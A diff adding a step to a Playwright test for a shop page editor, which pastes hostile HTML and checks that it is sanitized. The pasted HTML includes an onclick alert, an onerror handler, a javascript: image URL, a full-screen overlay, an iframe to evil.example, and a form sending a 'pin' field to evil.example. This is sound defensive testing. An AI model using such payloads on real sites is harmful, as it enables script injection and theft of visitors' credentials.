@@ -47,6 +47,19 @@ test('a page of the shop’s own, from the first block to the visitor', async ({
     box.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
   });
   await expect(frame.getByText('龙井')).toBeVisible();
+  // A hostile table: its words stay, nothing that runs, sends, covers the page or loads from elsewhere by a scheme of its own.
+  await text.evaluate((box) => {
+    const clipboardData = new DataTransfer();
+    clipboardData.setData(
+      'text/html',
+      '<table style="position:fixed;inset:0"><tr><td onclick="alert(1)" colspan="2">产地<form action="https://evil.example"><input name="pin"></form>' +
+        '<iframe src="https://evil.example"></iframe><img src="x" onerror="document.title=1"><img src="data:image/png;base64,AAAA"></td></tr></table>' +
+        '<img src="javascript:alert(1)" onload="alert(1)">',
+    );
+    box.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
+  });
+  await expect(text.locator('td[colspan="2"]', { hasText: '产地' })).toBeVisible();
+  expect(await text.locator('form, input, iframe, img, [style*="fixed"], [onclick], [onerror], [onload]').count()).toBe(0);
   await add.getByRole('button', { name: '商品', exact: true }).click();
   await expect(frame.locator('.shop-strip a').first()).toBeVisible();
   const grip = blocks.locator('[data-block="goods"]').getByRole('button', { name: /移动商品/ });
